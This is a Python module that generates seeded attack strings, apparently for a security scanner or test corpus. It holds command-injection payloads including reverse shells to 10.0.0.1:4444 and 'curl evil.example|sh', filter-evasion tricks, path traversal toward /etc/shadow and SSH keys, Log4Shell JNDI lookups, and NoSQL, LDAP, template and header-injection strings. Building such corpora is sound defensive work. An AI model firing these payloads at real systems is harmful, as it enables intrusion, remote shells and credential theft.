"""Attacks that are made rather than fetched, always the same ones (seeded).

They follow the grammar of what they attack: a way out of the parameter, a command or a file, a disguise.
"""

from __future__ import annotations

import itertools
import random
import re
import string
from collections.abc import Iterator

_COMMANDS = (
    *("id", "whoami", "uname -a", "ls", "ls -la", "ls -l /tmp", "pwd", "ps aux", "netstat -an", "ifconfig", "env"),
    *("cat /etc/passwd", "cat /etc/shadow", "/bin/cat /etc/passwd", "/usr/bin/id", "sleep 5", "ping -c 4 127.0.0.1"),
    *("curl http://evil.example/x.sh", "wget http://evil.example/x", "nslookup x.evil.example", "echo vulnerable"),
    *(
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "python -c 'import os'",
        "rm -rf /tmp/x",
    ),
    *("curl evil.example|sh", "head -1 /etc/passwd", "find / -name x", "grep root /etc/passwd", "touch /tmp/pwned"),
    *("dir", "dir C:\\", "type C:\\boot.ini", "ipconfig /all", "net user", "ping -n 5 127.0.0.1", "systeminfo", "ver"),
    *("powershell -c whoami", "cmd /c dir", "tasklist", "perl -e 'print 1'", "php -r 'phpinfo();'", "printenv", "w"),
)
_WAYS = (
    *("; {}", ";{}", ";{};", "| {}", "|{}", "|| {}", "&& {}", "& {}", "&{}&", "`{}`", "$({})", "\n{}", "\n{}\n"),
    *(
        "';{};'",
        '";{};"',
        "'|{}|'",
        '"|{}',
        "') ; {} ; ('",
        "a;{}",
        "127.0.0.1; {}",
        "127.0.0.1 && {}",
        "x|{}",
        "x||{}",
    ),
    *("file.txt; {}", "%0a{}%0a", "%26%26{}", "`{}` #", ";{} #", "|{}#", "{{{}}}", "$(({}))", "127.0.0.1|{}", "a=`{}`"),
)
_FILES = (
    *("etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "proc/self/environ", "proc/self/cmdline", "proc/version"),
    *("var/log/apache2/access.log", "var/log/nginx/error.log", "root/.ssh/id_rsa", "root/.bash_history", "boot.ini"),
    *("windows/win.ini", "windows/system32/drivers/etc/hosts", "WEB-INF/web.xml", "wp-config.php", ".htaccess", ".env"),
    *(
        "index.php",
        "config.php",
        "app/config/database.yml",
        "windows\\win.ini",
        "inetpub/wwwroot/web.config",
        "secret.txt",
    ),
)
_UPS = (
    *("../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%2e%2e%5c", "..%252f", "%252e%252e%252f", "..%c0%af"),
    *("%c0%ae%c0%ae/", "..%u2215", "..%uff0f", "....//", "..././", "...//", "..;/", "..//", "../.\\", "..\\/"),
    *(
        "%c0%ae%c0%ae%c0%af",
        "..%c1%9c",
        "%uff0e%uff0e/",
        "0x2e0x2e/",
        "..%00/",
        "%%32%65%%32%65/",
        "..0x2f",
        "..%e0%80%af",
    ),
)


def commands() -> Iterator[str]:
    """Shell commands behind every usual way out, some of them disguised."""
    chance = random.Random(11)
    for way, command in itertools.product(_WAYS, _COMMANDS):
        if chance.random() < 0.6 and not (way.startswith("{{") and " " not in command):
            yield way.replace("{{{}}}", "{" + command.replace(" ", ",") + "}").replace("{}", command)
    for way, command in itertools.product(_WAYS[:13], _COMMANDS[:30]):
        if chance.random() < 0.5:
            yield way.replace("{}", _disguised(command, chance))


def _disguised(command: str, chance: random.Random) -> str:
    word, _, rest = command.partition(" ")
    spelt = chance.choice((_quoted, _slashed, _wild, _plain, _plain))(word)
    space = chance.choice(("$IFS", "${IFS}", "$IFS$9", "\t", "  ", "+", "%20", "<" if rest.startswith("/") else " "))
    return f"{spelt}{space}{rest}" if rest else spelt


def _plain(word: str) -> str:
    return word


def _quoted(word: str) -> str:
    mark = "'" if len(word) % 2 else '"'
    return f"{word[:1]}{mark}{mark}{word[1:]}"


def _slashed(word: str) -> str:
    return "\\".join(word)


def _wild(word: str) -> str:
    return f"/bin/{word[:1]}?{word[2:]}" if word.isalpha() and len(word) > 2 else f"{word[:1]}$@{word[1:]}"


def paths() -> Iterator[str]:
    """Climbing paths by depth, way of writing and file."""
    chance = random.Random(12)
    for up, file, depth in itertools.product(_UPS, _FILES, (1, 2, 3, 5, 8)):
        if chance.random() < 0.3:
            start = chance.choice(("", "", "", "/", "images/", "/var/www/html/", "./", "file=", "\\"))
            end = chance.choice(("", "", "", "%00", "%00.jpg", "\0", "\0.png", "?", "#"))
            yield f"{start}{up * depth}{file}{end}"
    for file in _FILES[:18]:
        yield from (f"/{file}", f"file:///{file}", f"php://filter/convert.base64-encode/resource={file}")
        yield from (f"C:\\{file}", f"/{file}%00", f"/./{file}", f"//{file}", f"/%2e/{file}")
    yield from ("php://input", "expect://id", "zip://a.zip#b", "phar://x.phar/y", "data://text/plain;base64,PD9waHA=")


def others() -> Iterator[str]:
    """NoSQL operators, look-ups of loggers, prototype keys and header splitting."""
    for operator in ("$ne", "$gt", "$regex", "$where", "$in", "$exists", "$nin", "$gte", "$or", "$expr"):
        yield from (
            f'{{"{operator}": ""}}',
            f"[{operator}]=1",
            f'{{"user": {{"{operator}": 1}}}}',
            f"user[{operator}]=x",
        )
    for scheme, host in itertools.product(("ldap", "rmi", "dns", "ldaps"), ("evil.example/a", "127.0.0.1:1389/x")):
        yield from (f"${{jndi:{scheme}://{host}}}", f"${{${{lower:j}}ndi:{scheme}://{host}}}")
        yield from (
            f"${{${{::-j}}${{::-n}}di:{scheme}://{host}}}",
            f"${{${{env:X:-j}}ndi${{env:X:-:}}{scheme}://{host}}}",
        )
    for key in ("__proto__", "constructor.prototype", "constructor[prototype]", "__proto__.admin", "a[__proto__][b]"):
        yield from (f"{key}=1", f'{{"{key}": {{"a": 1}}}}', f"{key}[x]=1", f"x.{key}")
    for line in ("Set-Cookie: a=b", "Location: http://evil.example", "Content-Length: 0", "X-Injected: 1"):
        yield from (
            f"x\r\n{line}",
            f"x%0d%0a{line}",
            f"x\n{line}",
            f"x%0a{line}",
            f"%E5%98%8A%E5%98%8D{line}",
            f"\r{line}",
        )
    yield from ("*)(uid=*))(|(uid=*", "admin)(&)", "*)(&", "*)(objectClass=*", "x)(|(cn=*", "admin)(!(&(|", "*()|&'")
    yield from ("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__}}", "*{7*7}")


def filled(text: str, chance: random.Random) -> str:
    """sqlmap's placeholders filled in as sqlmap would."""
    for mark, meant in (("[SLEEPTIME]", "5"), ("[DELAYED]", "5"), ("[INFERENCE]", "1=1"), ("[ORIGVALUE]", "1")):
        text = text.replace(mark, meant)
    text = re.sub(r"\[RANDSTR[0-9]*\]", lambda _: "".join(chance.choices(string.ascii_letters, k=4)), text)
    numbers: dict[str, str] = {}
    text = re.sub(r"\[RANDNUM[0-9]*\]", lambda m: numbers.setdefault(m[0], str(chance.randint(1000, 9999))), text)
    text = (
        text.replace("[DELIMITER_START]", "qzvxq")
        .replace("[DELIMITER_STOP]", "qbkkq")
        .replace("[GENERIC_SQL_COMMENT]", "--")
    )
    text = re.sub(r"\[(?:SPACE_REPLACE|AT_REPLACE|DOLLAR_REPLACE|HASH_REPLACE)\]", "q", text)
    return text.replace("[QUERY]", "SELECT user").replace("[UNION]", "UNION ALL SELECT NULL").replace("[COLSTART]", "1")
